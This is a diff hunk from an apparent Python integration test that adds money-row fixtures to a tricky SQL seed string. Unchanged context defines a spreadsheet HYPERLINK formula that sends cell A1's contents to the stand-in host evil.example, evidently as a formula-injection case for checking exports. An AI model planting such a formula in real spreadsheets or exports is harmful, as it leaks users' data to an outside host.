@@ -26,11 +26,13 @@ from aid.sheets.writing import Form
 from aid.text import Locale
 from tests.actors import LOCAL
 from tests.conftest import TODAY, as_admin
+from tests.integration.money_rows import MONEY
 from tests.integration.work_rows import WORK
 
 FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"点我")'
 TRICKY = f"""
 {WORK}
+{MONEY}
 SET session_replication_role = replica;
 UPDATE project SET name = $q${FORMULA}$q$, description = E'一, "二"\\n三', simulated = true,
   proposed_fen = 999999999999999, approved_fen = 12345678901, progress = 33.33,
